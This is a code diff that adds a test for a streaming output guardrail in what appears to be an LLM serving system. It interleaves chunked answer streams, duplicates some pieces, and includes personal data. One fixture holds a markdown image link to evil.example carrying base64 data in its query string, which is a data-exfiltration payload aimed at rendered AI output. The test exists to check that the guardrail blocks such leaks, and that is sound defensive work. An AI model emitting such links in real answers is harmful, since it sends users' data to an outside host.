@@ -48,6 +48,8 @@ from services.guardrails.policy import CompiledPolicy, compile_policy
 from services.guardrails.registry import shipped_scanners
 from services.guardrails.screening import Limits as ScreeningLimits
 from services.guardrails.screening import screen
+from services.guardrails.streaming import PieceJudge, StreamState
+from services.guardrails.streaming import step as release_piece
 from services.inference import core as inference
 from services.intake import core as intake
 from services.retrieval import core as retrieval
@@ -312,6 +314,34 @@ def _signals() -> list[tuple[str, Record]]:
     return feed
 
 
+def _streaming() -> Logic[Any, Any]:
+    by = PieceJudge(_policy(), b"key", ScreeningLimits(), lambda: 0.0)
+    return Logic(
+        step=lambda state, chunk, now: release_piece(state, chunk, by, now),
+        route=lambda chunk, message, lookup: [(chunk.request_id, chunk)],
+        state_type=StreamState,
+    )
+
+
+def _pieces() -> list[tuple[str, Record]]:
+    """Answers side by side, with personal data and an address that is not let out, and pieces that come twice."""
+    base: GroundedRequest = example("requests-grounded")
+    text = " ".join(_TEXTS[:2]) + " Write to ada.lovelace@example.com about it. "
+    leak = "![x](https://evil.example/p.png?d=" + "QWxhZGRpbjpvcGVuIHNlc2FtZQ1" * 4 + ") "
+    texts = [text * 3, text * 2 + leak + text * 2, text]
+    streams = [(changed(base, event_id=f"grounded-{n}", request_id=f"request-{n}"), t) for n, t in enumerate(texts)]
+    dice, feed = random.Random(4), []
+    progress = dict.fromkeys(range(len(texts)), inference.Streamed())
+    while open_streams := [n for n, (_, text) in enumerate(streams) if progress[n].characters < len(text)]:
+        number = dice.choice(open_streams)
+        request, text = streams[number]
+        piece = text[progress[number].characters :][: dice.randrange(1, 60)]
+        finish = "stop" if progress[number].characters + len(piece) == len(text) else None
+        progress[number], emit = inference.piece(request, progress[number], piece, finish, START)
+        feed += [("completion-chunks", emit.record)] * dice.choice([1, 1, 1, 2])
+    return feed
+
+
 def stateful_cases() -> Iterator[StatefulCase]:
     """Yield every stateful processor."""
     yield StatefulCase("pricing", "evaluation", lambda: pricing(CONFIG.price), _completions)
@@ -320,3 +350,4 @@ def stateful_cases() -> Iterator[StatefulCase]:
         "scoring", "evaluation", lambda: scoring(load_toxicity(), ScoringRules(), CONFIG.team), _results
     )  # fmt: skip
     yield StatefulCase("drift", "drift", lambda: drift.logic(drift.Parameters()), _signals)
+    yield StatefulCase("streaming", "guardrails", _streaming, _pieces)
